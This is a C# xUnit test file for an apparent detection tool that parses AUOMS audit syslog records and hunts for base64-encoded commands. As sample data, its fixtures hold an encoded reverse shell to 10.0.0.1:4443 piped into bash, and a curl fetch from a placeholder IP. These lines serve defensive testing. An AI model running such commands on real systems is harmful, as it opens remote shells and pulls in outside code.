using System;
using System.Linq;
using System.Text;
using B64Hunt.Errors;
using B64Hunt.Model;
using B64Hunt.Sources;
using Xunit;
using static B64Hunt.Tests.Sources.SourceTestSupport;

namespace B64Hunt.Tests.Sources
{
    public class AuomsSyslogReaderTests
    {
        private const string B64 = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQzIDA+JjE=";

        [Fact]
        public void Rfc3164FileYieldsExecveRecordsWithInnerQuotesKept()
        {
            string path = Fixture("auoms-rfc3164.log");
            var result = Read(path);
            var records = result.Records;

            Assert.Equal(4, records.Count);
            var first = records[0];
            Assert.Equal("bash -c \"{echo," + B64 + "}|{base64,-d}|{bash,-i}\"", first.CommandLine);
            Assert.Equal(path + ":2", first.Source);
            Assert.Equal(Utc(1709294401869), first.TimeGenerated);
            Assert.Equal(DateTimeKind.Utc, first.TimeGenerated!.Value.Kind);
            Assert.Equal("web01", first.Computer);
            Assert.Equal("root", first.Account);
            Assert.Equal("azureuser", first.AuditAccount);
            Assert.Equal("bash", first.ProcessName);
            Assert.Equal("/usr/bin/bash", first.ExecutablePath);
        }

        [Fact]
        public void ContaineridAloneAnchorsTheCmdline()
        {
            var record = Read(Fixture("auoms-rfc3164.log")).Records[1];
            Assert.Equal("iptables -w -t security --flush", record.CommandLine);
            Assert.Equal(Fixture("auoms-rfc3164.log") + ":4", record.Source);
            Assert.Null(record.AuditAccount); // audit_user=unset
        }

        [Fact]
        public void UnquotedCmdlineAndCmdlineRunningToTheEndOfTheLine()
        {
            var records = Read(Fixture("auoms-rfc3164.log")).Records;
            Assert.Equal("whoami", records[2].CommandLine);
            Assert.Equal("echo \"a b\" | base64", records[3].CommandLine);
            Assert.Equal("uid=1001", records[3].Account); // no user= nor audit_user=
            Assert.EndsWith(":8", records[3].Source);
        }

        [Fact]
        public void ExecveWithoutCmdlineIsMalformedAndOtherLinesAreSkipped()
        {
            string path = Fixture("auoms-rfc3164.log");
            var result = Read(path);
            var problem = Assert.Single(result.Problems);
            Assert.Equal(ErrorIds.MalformedAuomsRecord, problem.ErrorId);
            Assert.Equal(ProblemKind.InvalidData, problem.Kind);
            Assert.Equal(path + ":6", problem.Target);
            Assert.Equal(8, result.Stats.LinesRead);
            Assert.Equal(4, result.Stats.Records);
            Assert.Equal(3, result.Stats.LinesSkipped); // systemd, AUOMS_SYSCALL, CRON
            Assert.Equal(1, result.Stats.Malformed);
            Assert.Equal(new System.IO.FileInfo(path).Length, result.Stats.BytesRead);
        }

        [Fact]
        public void Rfc5424AndIsoPrefixesGiveHostAndFallbackTime()
        {
            string path = Fixture("auoms-rfc5424.log");
            var records = Read(path).Records;
            Assert.Equal(3, records.Count);

            Assert.Equal("sh -c \"echo ZWNobyBoZWxsbw== | base64 -d | sh\"", records[0].CommandLine);
            Assert.Equal("db02", records[0].Computer);
            Assert.Equal("www-data", records[0].Account);
            Assert.Equal(Utc(1709294401123), records[0].TimeGenerated);

            Assert.Equal("curl -s http://203.0.113.7/x", records[1].CommandLine);
            Assert.Equal("db03", records[1].Computer); // <PRI>1 timestamp host app ...

            // No audit(...) stamp: the syslog timestamp, converted to UTC.
            Assert.Equal("ls", records[2].CommandLine);
            Assert.Equal("db04", records[2].Computer);
            Assert.Equal(Utc("2024-03-01T10:30:00Z"), records[2].TimeGenerated);
            Assert.Equal(path + ":3", records[2].Source);
        }

        [Fact]
        public void BareRecordsWithoutSyslogPrefixUseNodeForComputer()
        {
            var records = Read(Fixture("auoms-bare.log")).Records;
            Assert.Equal(2, records.Count);
            Assert.Equal("bash -c \"{echo," + B64 + "}|{base64,-d}|{bash,-i}\"", records[0].CommandLine);
            Assert.Null(records[0].Computer);
            Assert.Equal(Utc(1652292621986), records[0].TimeGenerated);
            Assert.Equal("nodehost", records[1].Computer);
            Assert.Equal("id", records[1].CommandLine);
        }

        [Fact]
        public void CmdlineHoldingAFakeRedactorsAnchorEndsAtTheRealOne()
        {
            string line = "type=AUOMS_EXECVE audit(1709294401.000:1): user=root cmdline=\"sh -c \"echo redactors= containerid= | base64\"\" redactors= containerid=\n";
            var record = Assert.Single(ReadBytes(Encoding.UTF8.GetBytes(line), "mem").Records);
            Assert.Equal("sh -c \"echo redactors= containerid= | base64\"", record.CommandLine);
            Assert.Equal("mem:1", record.Source);
        }

        [Theory]
        [InlineData("audit_user=alice auid=1000 user=root uid=0", "root", "alice")]
        [InlineData("audit_user=unset auid=4294967295 user=root uid=0", "root", null)]
        [InlineData("auid=alice auid_r=1000 uid=root uid_r=0", "root", "alice")]     // no interpreted_field_names
        [InlineData("auid=4294967295 uid=1001", "uid=1001", null)]
        [InlineData("auid=1000", "auid=1000", "auid=1000")]                          // only the login user is known
        public void AccountFromUserFieldsWithOrWithoutInterpretedNames(string fields, string account, string? auditAccount)
        {
            string text = "type=AUOMS_EXECVE audit(1709294401.000:1): SchemaVersion=\"1\" " + fields + " comm=\"id\" cmdline=\"id\" redactors=\n";
            var record = Assert.Single(ReadBytes(Encoding.UTF8.GetBytes(text), "a.log").Records);
            Assert.Equal(account, record.Account);
            Assert.Equal(auditAccount, record.AuditAccount);
        }

        [Fact]
        public void OtherAuomsTypesSharingThePrefixAreSkipped()
        {
            string text = "type=AUOMS_EXECVE_FRAGMENT audit(1709294401.000:1): cmdline=\"x\" redactors=\n";
            var result = ReadBytes(Encoding.UTF8.GetBytes(text), "f.log");
            Assert.Empty(result.Items);
            Assert.Equal(1, result.Stats.LinesSkipped);
        }

        [Fact]
        public void StringFilterCountsFilteredRecordsAndYieldsOnlyMatches()
        {
            var options = new LogReadOptions { CommandLineFilter = c => c.Contains("base64") };
            var result = Read(Fixture("auoms-rfc3164.log"), options);
            Assert.Equal(2, result.Records.Count);
            Assert.All(result.Records, r => Assert.Contains("base64", r.CommandLine));
            Assert.Equal(2, result.Stats.RecordsFiltered);
            Assert.Equal(2, result.Stats.Records);
        }

        [Fact]
        public void ByteFilterRunsOnRawCmdlineBeforeTheStringFilter()
        {
            int stringCalls = 0;
            var options = new LogReadOptions
            {
                CommandLineByteFilter = bytes => bytes.IndexOf("{base64,-d}"u8) >= 0,
                CommandLineFilter = c => { stringCalls++; return true; },
            };
            var result = Read(Fixture("auoms-rfc3164.log"), options);
            var record = Assert.Single(result.Records);
            Assert.Contains("{base64,-d}", record.CommandLine);
            Assert.Equal(1, stringCalls); // only the line that passed the byte filter was decoded
            Assert.Equal(3, result.Stats.RecordsFiltered);
        }

        [Fact]
        public void ForcedFormatReadsTheSameRecords()
        {
            var auto = Read(Fixture("auoms-rfc3164.log")).Records.Select(r => r.CommandLine);
            var forced = Read(Fixture("auoms-rfc3164.log"), new LogReadOptions { Format = LogFormat.AuomsSyslog }).Records.Select(r => r.CommandLine);
            Assert.Equal(auto, forced);
        }
    }
}
